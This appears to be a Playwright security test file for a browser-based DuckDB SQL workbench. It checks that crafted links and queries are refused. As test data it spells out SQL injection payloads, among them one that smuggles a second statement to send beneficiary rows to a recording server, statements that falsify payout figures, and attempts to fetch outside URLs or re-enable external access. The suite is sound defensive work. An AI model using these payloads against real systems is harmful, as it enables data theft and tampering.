/**
 * The SQL workbench turned against its user (issue 11, items 1–5): links that leak or falsify, guard
 * bypasses, a worker that fetches any site, a bench hook in production. Every attempt runs in Chromium
 * against the built site and must be refused by DuckDB itself (its own message is on the page), leave
 * the snapshot as it was, and reach no other server (a recording server stands where data would leak).
 */
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { runAndWait, setQuery, sink } from './sql-helpers';

let leak: Awaited<ReturnType<typeof sink>>;
test.beforeAll(async () => {
  leak = await sink();
});
test.afterAll(async () => {
  await leak.close();
});

/** DuckDB's own words for a refusal or a failure: its error classes, never the app's. */
const DUCKDB =
  /(Permission Error|Parser Error|Invalid Input Error|TransactionContext Error|Catalog Error|Binder Error|Not implemented Error|disabled by configuration|multiple statements|read-only)/;

/** Run the editor's text; expect DuckDB to refuse it (or fail it) and nothing to be shown or sent. */
async function expectRefused(page: Page, sql: string) {
  await setQuery(page, sql);
  await runAndWait(page);
  const refused = page.getByTestId('sql-refused');
  const failed = page.getByTestId('sql-error');
  await expect(refused.or(failed), sql).toBeVisible();
  const words = (await refused.isVisible()) ? await page.getByTestId('sql-refused-duckdb').innerText() : await failed.innerText();
  expect(words, sql).toMatch(DUCKDB);
  if (await refused.isVisible()) await expect(refused).toHaveAttribute('data-refused-by', 'duckdb');
  await expect(page.getByTestId('sql-result'), sql).toHaveCount(0);
  return words;
}

async function openWorkbench(page: Page, hash = '') {
  await page.goto(`/sql${hash}`);
  await expect(page.getByTestId('sql-run')).toBeEnabled({ timeout: 60_000 });
}

/** The headline numbers /program/pkh_plus shows (raw values). */
async function programKpis(page: Page): Promise<Record<string, string>> {
  const kpis = page.locator('[data-kpi]');
  await expect(kpis.first().locator('dd[data-value]')).not.toHaveAttribute('data-value', '', { timeout: 60_000 });
  const out: Record<string, string> = {};
  for (const k of await kpis.all()) out[(await k.getAttribute('data-kpi'))!] = (await k.locator('dd[data-value]').getAttribute('data-value'))!;
  return out;
}

test('a link that would leak beneficiary rows fills the editor, runs nothing, and DuckDB refuses it on Run', async ({ page, watch }) => {
  const payload = `SELECT count(*) FROM penerima WHERE $a1$'$a1$ <> $$x$$; SET VARIABLE leak=(SELECT string_agg(id_hash || ' ' || program_id || ' ' || kode || ' ' || kecamatan, '|') FROM (SELECT * FROM penerima LIMIT 5)); SELECT * FROM read_text($$${leak.url}/$$||getvariable($$leak$$)) --'`;
  for (const link of [`/sql?q=${encodeURIComponent(payload)}`, `/sql#q=${encodeURIComponent(payload)}`]) {
    await page.goto(link);
    await expect(page.getByTestId('sql-run')).toBeEnabled({ timeout: 60_000 });
    await expect(page.getByTestId('sql-from-link')).toBeVisible();
    await expect(page.locator('[data-testid="sql-editor"] .cm-content')).toContainText('SET VARIABLE leak');
    await page.waitForTimeout(1500); // a link that ran by itself would have done so by now
    await expect(page.getByTestId('sql-result')).toHaveCount(0);
    await expect(page.getByTestId('sql-meta')).toHaveCount(0);
    await runAndWait(page);
    await expect(page.getByTestId('sql-refused')).toHaveAttribute('data-reason', 'multiple');
    await expect(page.getByTestId('sql-refused-duckdb')).toContainText('Cannot prepare multiple statements at once');
  }
  expect(leak.hits).toEqual([]);
  expect(watch.foreign).toEqual([]);
});

test('a link or a statement that would falsify figures cannot change what /program/pkh_plus shows in the same tab', async ({ page, browser }) => {
  const fresh = await browser.newPage();
  await fresh.goto('/program/pkh_plus');
  const truth = await programKpis(fresh);
  await fresh.close();
  expect(Object.keys(truth).length).toBeGreaterThan(2);

  const falsify =
    "SELECT count(*) FROM penyaluran WHERE $a1$'$a1$ <> $$x$$; UPDATE penyaluran SET realisasi_rp = realisasi_rp*10, realisasi_penerima = realisasi_penerima*10; SELECT 1 --'";
  await openWorkbench(page, `#q=${encodeURIComponent(falsify)}`);
  await page.waitForTimeout(1000);
  await runAndWait(page);
  await expect(page.getByTestId('sql-refused-duckdb')).toContainText('multiple statements');
  // One statement at a time: every way to change a snapshot table.
  const writes = [
    'UPDATE penyaluran SET realisasi_rp = realisasi_rp * 10',
    "DELETE FROM penyaluran WHERE kode <> '3501'",
    'DROP TABLE penyaluran',
    'CREATE OR REPLACE TABLE penyaluran AS SELECT * FROM penyaluran LIMIT 1',
    'INSERT INTO penyaluran SELECT * FROM penyaluran',
    'ALTER TABLE penyaluran RENAME TO p_lama',
    'WITH x AS (SELECT 1) UPDATE penyaluran SET realisasi_penerima = 0',
    'CREATE TEMP TABLE penyaluran AS SELECT * FROM penyaluran LIMIT 1',
    'CREATE OR REPLACE VIEW penyaluran AS SELECT * FROM penyaluran LIMIT 1',
    'CREATE OR REPLACE MACRO sum(x) AS 0',
    "SELECT nextval('x')",
    'TRUNCATE penyaluran',
    'BEGIN TRANSACTION',
    'COMMIT'
  ];
  for (const w of writes) await expectRefused(page, w);
  // the same tab: client-side navigation keeps this DuckDB instance and its loaded tables
  await page.getByRole('navigation').getByRole('link', { name: 'Program' }).click();
  await page.locator('a[href$="/program/pkh_plus"]').first().click();
  await expect(page).toHaveURL(/\/program\/pkh_plus/);
  expect(await programKpis(page)).toEqual(truth);
});

test('guard bypasses of the old hand filter are refused by DuckDB itself, and nothing reaches another server', async ({ page, watch }) => {
  await openWorkbench(page);
  const u = leak.url;
  const attempts = [
    // quoted paths
    `SELECT * FROM "${u}/quoted.csv"`,
    `SELECT * FROM '${u}/single.csv'`,
    `SELECT * FROM wilayah, "${u}/comma.csv"`,
    // quoted function names
    `SELECT * FROM "read_csv"('${u}/f.csv')`,
    `SELECT * FROM "read_text"('${u}/f')`,
    `SELECT * FROM "read_blob"('${u}/f')`,
    `SELECT * FROM "glob"('${u}/*')`,
    `SELECT * FROM "sniff_csv"('${u}/f.csv')`,
    `SELECT * FROM "query"('SELECT * FROM read_text(''${u}/q'')')`,
    `SELECT * FROM "query_table"('"${u}/t.csv"')`,
    `SELECT * FROM main."read_text"('${u}/schema')`,
    `SELECT * FROM READ_TEXT('${u}/upper')`,
    // DESCRIBE | SUMMARIZE | SHOW | TABLE | PIVOT | UNPIVOT followed by a quoted path or URL
    `DESCRIBE "${u}/d.csv"`,
    `DESCRIBE '${u}/d2.csv'`,
    `SUMMARIZE "${u}/s.csv"`,
    `SUMMARIZE SELECT * FROM '${u}/s2.csv'`,
    `SHOW "${u}/sh.csv"`,
    `TABLE "${u}/t.csv"`,
    `PIVOT "${u}/p.csv" ON a USING count(*)`,
    `PIVOT '${u}/p2.csv' ON a IN ('x') USING count(*)`,
    `UNPIVOT "${u}/u.csv" ON a INTO NAME k VALUE v`,
    // dollar quotes, with digits in the tag
    `SELECT * FROM read_text($a1$${u}/dollar$a1$)`,
    `SELECT $x9$;$x9$; SELECT * FROM read_text('${u}/d9')`,
    // writes to files, other databases, extensions, settings
    `COPY (SELECT * FROM wilayah) TO '${u}/copy.csv'`,
    `ATTACH '${u}/db.duckdb' AS x`,
    'INSTALL httpfs',
    'LOAD httpfs',
    'SET enable_external_access = true',
    'SET lock_configuration = false',
    "SET custom_extension_repository = 'http://127.0.0.1:9'",
    'RESET enable_external_access',
    'PRAGMA enable_profiling',
    'CALL pragma_version()',
    "EXPORT DATABASE 'x'",
    'SELECT 1; SELECT 2'
  ];
  for (const a of attempts) await expectRefused(page, a);
  expect(leak.hits).toEqual([]);
  expect(watch.foreign).toEqual([]);
});

test('a `--` comment ended by a carriage return does not hide a second statement', async ({ page, watch }) => {
  const sql = `SELECT 1 --\r; SELECT * FROM read_text('${leak.url}/cr')`;
  await openWorkbench(page, `#q=${encodeURIComponent(sql)}`);
  await runAndWait(page);
  await expect(page.getByTestId('sql-refused-duckdb')).toContainText(/multiple statements|disabled by configuration/);
  expect(leak.hits).toEqual([]);
  expect(watch.foreign).toEqual([]);
});

test('the engine itself is locked down: external access off, configuration locked', async ({ page }) => {
  await openWorkbench(page);
  await setQuery(
    page,
    "SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked, current_setting('autoinstall_known_extensions') AS inst"
  );
  await runAndWait(page);
  const row = page.getByTestId('sql-result').locator('tbody tr').first();
  await expect(row).toContainText('false');
  const cells = await row.locator('td').allInnerTexts();
  expect(cells.slice(1)).toEqual(['false', 'true', 'false']);
});

test("the DuckDB worker cannot fetch another host: its script is served with connect-src 'self'", async ({ page, watch }) => {
  // The server's real headers for the worker script, with a body that tries to reach the sink.
  let workerUrl = '';
  await page.route(/duckdb-browser-eh\.worker[^/]*\.js$/, async (route) => {
    const res = await route.fetch();
    workerUrl = route.request().url();
    const csp = res.headers()['content-security-policy'];
    expect(csp).toMatch(/connect-src 'self'(;|$)/);
    expect(csp).toMatch(/worker-src 'self'(;|$)/);
    await route.fulfill({
      status: 200,
      headers: { 'content-type': 'text/javascript; charset=utf-8', 'content-security-policy': csp },
      body: `fetch(${JSON.stringify(leak.url + '/from-worker')}).then(() => postMessage('fetched'), (e) => postMessage('blocked: ' + e.message));`
    });
  });
  await page.goto('/data');
  await page.locator('[data-preview="wilayah"]').click();
  await expect.poll(() => workerUrl, { timeout: 30_000 }).not.toBe('');
  const outcome = await page.evaluate(
    (url) =>
      new Promise<string>((resolve) => {
        const w = new Worker(url);
        w.onmessage = (e) => resolve(String(e.data));
        w.onerror = (e) => resolve(`error: ${e.message}`);
      }),
    workerUrl
  );
  expect(outcome).toMatch(/^blocked/);
  expect(leak.hits).toEqual([]);
  expect(watch.foreign.filter((f) => !f.includes('/from-worker'))).toEqual([]);
});

test('?bench=1 exposes no SQL hook in the production build', async ({ page }) => {
  for (const path of ['/program?bench=1', '/program/pkh_plus?bench=1']) {
    await page.goto(path);
    await expect(page.locator('main')).toBeVisible();
    await page.waitForTimeout(1500);
    expect(await page.evaluate(() => typeof (window as { __dampakBench?: unknown }).__dampakBench), path).toBe('undefined');
  }
});
